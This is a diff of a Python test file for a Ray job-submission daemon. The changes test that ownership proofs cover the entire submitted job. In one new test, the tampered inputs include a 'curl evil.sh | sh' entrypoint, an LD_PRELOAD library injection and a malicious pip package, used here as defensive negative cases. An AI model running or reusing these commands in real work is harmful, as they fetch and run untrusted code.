@@ -57,7 +57,8 @@ class FakeJobsAPI:
 
 
 def details(body: dict[str, Any], status: str = "SUCCEEDED") -> dict[str, Any]:
-    return {"submission_id": body["submission_id"], "metadata": body["metadata"], "status": status}
+    """Ray's JobDetails of a submitted ``body``: what was submitted, and its status."""
+    return {**body, "status": status}
 
 
 # -- ownership proofs ---------------------------------------------------------------------------
@@ -65,15 +66,44 @@ def details(body: dict[str, Any], status: str = "SUCCEEDED") -> dict[str, Any]:
 
 def test_proof_binds_id_owner_task_and_spec() -> None:
     task = task_spec("alice", "train", command="true")
-    meta = job_submission(task, cluster(), revision=None, secrets_env={}, ownership_key=KEY)["metadata"]
+    body = job_submission(task, cluster(), revision=None, secrets_env={}, ownership_key=KEY)
+    meta = body["metadata"]
     sid = submission_id(task)
-    assert proof_valid(KEY, sid, meta)
-    assert not proof_valid(b"x" * 32, sid, meta)  # another daemon's key
-    assert not proof_valid(KEY, sid + "--2", meta)  # replayed under another id
-    for field, value in (("argus-user", "bob"), ("argus-task", "other"), ("argus-spec-hash", "0" * 16)):
-        assert not proof_valid(KEY, sid, {**meta, field: value}), field
-    assert not proof_valid(KEY, sid, {k: v for k, v in meta.items() if k != LABEL_PROOF})
-    assert not proof_valid(b"", sid, meta)
+    assert proof_valid(KEY, sid, body)
+    assert not proof_valid(b"x" * 32, sid, body)  # another daemon's key
+    assert not proof_valid(KEY, sid + "--2", body)  # replayed under another id
+    for field, value in (
+        ("argus-user", "bob"),
+        ("argus-task", "other"),
+        ("argus-spec-hash", "0" * 16),
+        ("argus-revision", "f" * 40),
+        ("argus-resources", "{}"),
+    ):
+        assert not proof_valid(KEY, sid, {**body, "metadata": {**meta, field: value}}), field
+    assert not proof_valid(KEY, sid, {**body, "metadata": {k: v for k, v in meta.items() if k != LABEL_PROOF}})
+    assert not proof_valid(b"", sid, body)
+
+
+def test_proof_covers_what_runs() -> None:
+    """Job code holding the Ray token deletes a finished job and resubmits its id with the
+    labels copied (``/api/v1/deployed`` publishes them): whatever it changes in what runs, the
+    copied proof does not verify."""
+    task = task_spec("alice", "train", command="python train.py", working_dir="/data/alice/code")
+    body = job_submission(task, cluster(), revision=None, secrets_env={"HF_TOKEN": "t"}, ownership_key=KEY)
+    sid = submission_id(task)
+    assert proof_valid(KEY, sid, body)
+    env = body["runtime_env"]
+    for changed in (
+        {"entrypoint": "curl evil.sh | sh"},
+        {"runtime_env": {**env, "working_dir": "local:///data/mallory/code"}},
+        {"runtime_env": {**env, "env_vars": {**env["env_vars"], "LD_PRELOAD": "/tmp/x.so"}}},
+        {"runtime_env": {**env, "pip": ["evil"]}},
+        {"runtime_env": None},
+    ):
+        assert not proof_valid(KEY, sid, {**body, **changed}), changed
+    # Ray's JobDetails leave the entrypoint resources out and add fields of their own: still argus's.
+    details = {k: v for k, v in body.items() if not k.startswith("entrypoint_")}
+    assert proof_valid(KEY, sid, {**details, "status": "SUCCEEDED", "job_id": "x", "driver_exit_code": 0})
 
 
 def test_forged_labels_are_foreign_and_never_a_run(tmp_path: Path) -> None:
@@ -310,7 +340,7 @@ class FreshHead:
         if self.busy:
             self.busy -= 1
             raise self.error("POST", path, 500, "No available agent to submit job, please try again later.")
-        self.jobs.append({"submission_id": body["submission_id"], "metadata": body["metadata"]})
+        self.jobs.append(dict(body))  # Ray keeps what was submitted
         return {"submission_id": body["submission_id"]}
 
     def put(self, path: str, body: Any, **_kw: Any) -> Any:
